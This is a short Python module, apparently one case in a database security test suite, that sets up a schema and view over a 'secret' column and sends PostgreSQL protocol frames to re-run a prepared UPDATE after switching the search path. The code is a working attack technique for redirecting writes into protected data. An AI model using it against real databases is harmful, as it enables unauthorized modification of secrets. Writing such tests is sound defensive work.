"""Updates by a prepared statement, and again where its table is another by the search path."""

from attacks.frames import SYNC, ask, bind, execute, parse, whole
from attacks.talking import Server

WANTS = "write"
SETUP = """
CREATE SCHEMA aside;
CREATE VIEW aside.customer AS SELECT id, secret AS name FROM vlt_account;
GRANT USAGE ON SCHEMA aside TO PUBLIC;
GRANT SELECT, UPDATE ON aside.customer TO PUBLIC;
"""
TIMES = 4


def attack(server: Server) -> bytes:
    run = bind(b"s") + execute()
    with server.login() as client:
        # Nothing of the round has to wait until it is read.
        ask(client, parse(b"SET search_path = aside"), SYNC)
        ask(client, parse(b"UPDATE customer SET name = 'mine' WHERE id = 1", b"s"), SYNC)
        return ask(client, run * TIMES, whole(b"SET search_path = aside"), run * TIMES, SYNC)
